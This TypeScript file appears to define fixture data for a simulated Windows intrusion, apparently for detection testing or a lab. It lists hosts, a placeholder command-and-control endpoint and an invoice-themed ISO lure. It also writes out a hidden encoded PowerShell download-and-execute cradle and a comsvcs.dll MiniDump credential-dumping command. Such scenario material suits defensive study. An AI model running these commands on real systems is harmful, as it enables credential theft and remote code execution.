import type { Machine } from "./windows.ts";
import { SYSTEM32 } from "./windows.ts";

export const DESK: Machine = {
  name: "WS-FIN-07",
  ip: "10.20.31.47",
  user: "m.lind",
  sid: "S-1-5-21-2210475529-1190884361-3317540902-2147",
};
export const FILES: Machine = {
  name: "SRV-FILE-02",
  ip: "10.20.10.22",
  user: "m.lind",
  sid: DESK.sid,
};
export const C2 = { ip: "203.0.113.66", port: 443, host: "cdn-sync.example" };
export const RUNDLL = `${SYSTEM32}\\rundll32.exe`;
export const LURE = "C:\\Users\\m.lind\\Downloads\\Invoice_88214.iso";
export const ENCODED =
  "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
export const DUMP =
  "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\upd.dmp full";
